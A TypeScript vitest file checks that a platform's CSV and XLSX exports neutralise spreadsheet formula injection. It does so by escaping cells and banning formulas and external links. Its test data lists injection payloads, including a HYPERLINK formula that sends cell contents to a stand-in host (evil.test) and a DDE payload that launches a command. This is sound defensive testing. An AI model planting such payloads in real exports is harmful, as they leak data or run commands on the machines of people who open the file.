import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { readCsv } from '#platform/common/format/read-csv.ts';
import { csvOf } from '#platform/server/tables/csv-of.ts';
import { xlsxOf } from '#platform/server/tables/xlsx-of.ts';
import { serverFiles } from '#quality/support/server-files.ts';

/** Attack tests: spreadsheet exports keep user input as text; no cell is evaluated as a formula. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.test?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+1,"=2+2"',
  '"=1+1',
];
const STARTS = /^[=+\-@\t\r\n＝＋－＠]/;
const rows = async function* () {
  yield FORMULAS.map((cell) => [cell, 1]);
};

test('as CSV: no cell starts a formula, and no cell is split', async () => {
  const { Records } = readCsv(await text(Readable.from(csvOf(['=Head', 'Count'], rows()))));
  expect(Records).toHaveLength(FORMULAS.length + 1);
  for (const [at, { Cells }] of Records.entries()) {
    expect(Cells).toHaveLength(2);
    expect([Cells[0], STARTS.test(String(Cells[0]))]).toEqual([Cells[0], false]);
    if (at === 0) continue;
    const formula = FORMULAS[at - 1] ?? '';
    expect(Cells[0]).toBe(STARTS.test(formula) ? `'${formula}` : formula);
  }
});

test('as a workbook: every text is a text, and no part contains a formula or an external link', async () => {
  const parts = unzipSync(
    await buffer(
      Readable.from(
        xlsxOf({
          title: 'List',
          heads: ['=Head', 'Count'],
          rows: rows(),
          total: FORMULAS.length,
          at: new Date(0),
        }),
      ),
    ),
  );
  for (const [name, bytes] of Object.entries(parts)) {
    const xml = strFromU8(bytes);
    expect([name, /<f[ >]|<ddeLink|externalLink|TargetMode="External"|<hyperlink/.test(xml)]).toEqual([
      name,
      false,
    ]);
  }
  const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(sheet.match(/t="inlineStr"/g)?.length).toBeGreaterThanOrEqual(FORMULAS.length);
  expect(sheet).toContain('=HYPERLINK(');
});

test('all CSV writers use the one module that escapes', () => {
  const folder = join(import.meta.dirname, '../..');
  const files = serverFiles(folder);
  const writers = files.filter((name) => /text\/csv|\.csv`/.test(readFileSync(join(folder, name), 'utf8')));
  expect(writers.length).toBeGreaterThan(0);
  const own = writers.filter((name) =>
    /\.join\((['"`])[,;]\1\)/.test(readFileSync(join(folder, name), 'utf8')),
  );
  expect(own).toEqual([]);
});

test('control: the same rows joined without it would start formulas', () => {
  const { Records } = readCsv(FORMULAS.slice(0, 6).join('\n'));
  expect(Records.filter(({ Cells }) => STARTS.test(String(Cells[0])))).toHaveLength(6);
});
